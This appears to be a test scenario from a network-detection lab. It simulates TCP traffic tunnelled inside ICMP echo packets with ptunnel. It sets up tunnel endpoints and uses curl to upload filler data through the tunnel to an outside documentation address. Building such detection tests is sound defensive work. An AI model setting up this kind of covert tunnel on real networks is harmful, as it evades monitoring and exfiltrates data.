# SPDX-License-Identifier: Apache-2.0
"""TCP inside echo requests and replies by ptunnel."""
from scenario import TUNNEL_S, Scenario

SCENARIO = Scenario('ICMP tunnel: ptunnel', ('D10', ), 'high', explains=('tunnel', ), within_s=TUNNEL_S / 2,
                    needs=('ptunnel', 'nginx', 'curl'), commitments=('C8', ))


def make(lab):
    lab.outside.serve_web()
    lab.outside.run('sysctl', '-qw', 'net.ipv4.icmp_echo_ignore_all=1')
    lab.outside.serve('ptunnel')
    lab.sleep(1)
    lab.inside.speak_as('10.20.0.34')
    lab.inside.serve('ptunnel', '-p', '203.0.113.60', '-lp', '8000', '-da', '203.0.113.60', '-dp', '80', port=8000)
    path = lab.inside.file('data', b'0123456789abcdef' * 4_000)
    lab.mark()
    lab.inside.curl('--upload-file', path, 'http://127.0.0.1:8000/in/data')
